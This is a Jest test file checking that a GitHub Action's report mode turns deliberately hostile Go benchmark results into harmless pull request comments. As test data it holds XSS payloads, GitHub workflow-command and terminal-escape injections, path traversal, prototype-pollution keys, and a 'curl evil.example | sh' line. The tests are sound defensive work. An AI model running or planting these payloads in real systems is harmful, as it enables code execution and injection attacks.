// Report mode against results that can be read and whose names, numbers and notes were written to harm: what comes of
// them is a harmless comment.
import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import { ForkResult, resultName, verdict } from './fork-result.js';
import { expectSafeComment, expectSafeMarkdown } from './harmless.js';
import { workflow } from './hosted.js';
import { removeFolders } from './repository.js';
import { describeWithGo } from './with-go.js';

afterAll(removeFolders);

describeWithGo('report mode', () => {
  let left: ForkResult;
  beforeAll(async () => {
    left = await ForkResult.start();
  }, 120_000);
  afterAll(() => left.hosted.close());
  beforeEach(() => {
    left.reset();
  });

  it('comments what an honest run left', async () => {
    const step = await left.report({ [resultName]: left.zip });
    expect([step.code, step.log]).toEqual([0, expect.any(String)]);
    expect(left.headings).toEqual([verdict]);
    expectSafeComment(left.pull.comments[0]?.body ?? '');
    expect(left.pull.reviewComments.map(({ path, line }) => ({ path, line }))).toEqual([
      { path: 'work.go', line: 14 },
    ]);
    expect(left.peakMegabytes).toBeLessThan(400);
  });

  describe('takes, and nothing happens but a comment:', () => {
    const marker = `<!-- pprof-gate comment v1 key=default sha=${'a'.repeat(40)} run=999999999999 attempt=9 variant=x outcome=within digest=0123456789abcdef -->`;
    const named =
      (...names: string[]) =>
      () =>
        left.inBoth((c) => c.under(names.map((name) => ({ pkg: 'example.com/work', name }))));
    const cases: [name: string, zip: () => Buffer][] = [
      [
        'names that mean something to a program',
        named('__proto__', 'constructor', 'toString', 'x'.repeat(16_000)),
      ],
      [
        'names that mean something to GitHub',
        named(
          marker,
          `x\r${marker}`,
          'Benchmark</code></details><img/src=x/onerror=alert(1)>@octocat/#1|`` ```|[x](javascript:alert(1))',
          'https://evil.example/x',
        ),
      ],
      [
        'names that mean something to the runner or a terminal',
        named(
          '::set-output name=passes::true',
          '##[error]x',
          'x\r::stop-commands::y\r',
          'x\u2028::error::y',
          '\u001b[2J\u202eevil\u2066\u200b',
        ),
      ],
      [
        'packages with all of it',
        () =>
          left.inBoth((c) =>
            c.under([
              { pkg: '@octocat/<img>::error::\u202e/|`/#1', name: 'BenchmarkWork' },
              { pkg: '::error::x', name: 'BenchmarkWork' },
              { pkg: '__proto__', name: 'BenchmarkWork' },
            ]),
          ),
      ],
      [
        'units that are no units',
        () =>
          left.inBoth((c) =>
            c.print((text) =>
              text.replace(
                / allocs\/op/,
                ' allocs/op\t1 __proto__\t2 <img>\t3 ::error::\t4 @octocat\t5 constructor',
              ),
            ),
          ),
      ],
      [
        'numbers at the ends of what there is',
        () =>
          left.inBoth((c) =>
            c.print((text) =>
              text.replace(/[\d.]+ ns\/op/, '1.7e308 ns/op').replace(/\d+ B\/op/, '5e-324 B/op'),
            ),
          ),
      ],
      [
        'numbers that are none',
        () =>
          left.inBoth((c) =>
            c.print((text) => text.replace(/[\d.]+ ns\/op/, '1e999 ns/op').replace(/\d+ B\/op/, 'NaN B/op')),
          ),
      ],
      [
        'files of culprits outside',
        () =>
          left.inBoth((c) =>
            c.records('benchmark', (r) => ({
              ...r,
              definition: {
                file: 'a\n::error::@octocat.go',
                line: 9007199254740991,
                endLine: 0,
                source: '',
                data: '',
              },
            })),
          ),
      ],
      [
        'a patch full of lies',
        () =>
          left.inHead((c) =>
            c.files.set(
              'diff.patch',
              Buffer.from(
                'diff --git base/work.go head/../../etc/passwd\n--- base/work.go\n+++ head/../../etc/passwd\n@@ -1 +99999999 @@\n-@octocat\n+::error::x\n',
              ),
            ),
          ),
      ],
      [
        'sources full of lies',
        () =>
          left.inBoth((c) =>
            c.files.set(
              'sources.json',
              Buffer.from(
                JSON.stringify({
                  schema: 'pprof-gate/sources/1',
                  files: [
                    { file: 'work.go', excerpts: [{ line: 1, text: '</script><img>\n::error::@octocat' }] },
                  ],
                  left: 0,
                  unread: 0,
                  benchmarksLeft: 0,
                }),
              ),
            ),
          ),
      ],
      [
        'sources that are none',
        () => left.inBoth((c) => c.files.set('sources.json', Buffer.from('{"schema":"../../x"'))),
      ],
      [
        'profiles that are cut',
        () =>
          left.inBoth((c) => {
            c.paths('profiles/').forEach((path) =>
              c.files.set(path, (c.files.get(path) ?? Buffer.alloc(0)).subarray(0, 100)),
            );
          }),
      ],
      [
        'profiles that are no profiles',
        () =>
          left.inBoth((c) => {
            c.paths('profiles/').forEach((path) => c.files.set(path, Buffer.from('x')));
          }),
      ],
      [
        'an origin that is ours',
        () =>
          left.inBoth(
            (c) =>
              (c.manifest = {
                ...c.manifest,
                session: 'x',
                origin: {
                  repository: 'owner/repository',
                  event: 'push',
                  actor: '@octocat',
                  reason: '<img>\n::error::x',
                  run: 1,
                  attempt: 1,
                  workflow,
                  suite: 'default',
                },
              }),
          ),
      ],
      [
        'a stored baseline that says much',
        () =>
          left.inHead((c) =>
            c.lines.push(
              JSON.stringify({
                type: 'baseline',
                mode: 'artifact',
                found: {
                  sha: '@octocat',
                  relation: 'newest',
                  distance: 9007199254740991,
                  recordedAt: '<img src=x>',
                  run: 1,
                },
                reason: '',
                command: '`rm -rf` @octocat',
              }),
            ),
          ),
      ],
      [
        'none, with a command to run',
        () =>
          left.inHead((c) =>
            c.lines.push(
              JSON.stringify({
                type: 'baseline',
                mode: 'artifact',
                found: null,
                reason: '@octocat <img>',
                command: 'curl evil.example | sh\n::error::x',
              }),
            ),
          ),
      ],
      [
        'commits that say much',
        () =>
          left.inBoth(
            (c) =>
              (c.manifest = {
                ...c.manifest,
                commit: {
                  sha: '@octocat',
                  ref: '[x](javascript:x)\n<img>',
                  chosen: 'merge-base',
                  dirty: true,
                },
              }),
          ),
      ],
      [
        'a Go that says much',
        () =>
          left.inBoth(
            (c) =>
              (c.manifest = {
                ...c.manifest,
                go: {
                  version: '@octocat <img>',
                  goos: '::error::',
                  goarch: '#1',
                  env: { ['__proto__']: 'x', GOFLAGS: '\u001b[31m' },
                },
              }),
          ),
      ],
    ];
    it.each(cases)(
      '%s',
      async (_, zip) => {
        const step = await left.report({ [resultName]: zip() });
        expect([step.code, step.log]).toEqual([0, expect.any(String)]);
        expect(left.pull.comments).toHaveLength(1);
        for (const { body } of [...left.pull.comments, ...left.pull.reviewComments]) expectSafeComment(body);
        expectSafeMarkdown(step.summary);
        expect(Buffer.byteLength(step.summary)).toBeLessThan(1 << 20);
        expect(left.peakMegabytes).toBeLessThan(500);
      },
      60_000,
    );

    it('and a name like our marker captures nothing: the next run finds its own comment', async () => {
      const zip = named(marker)();
      await left.report({ [resultName]: zip });
      await left.report({ [resultName]: zip });
      expect(left.pull.comments).toHaveLength(1);
      expect(left.forge.log.of('issues/create-comment')).toHaveLength(1);
    });
  });
});
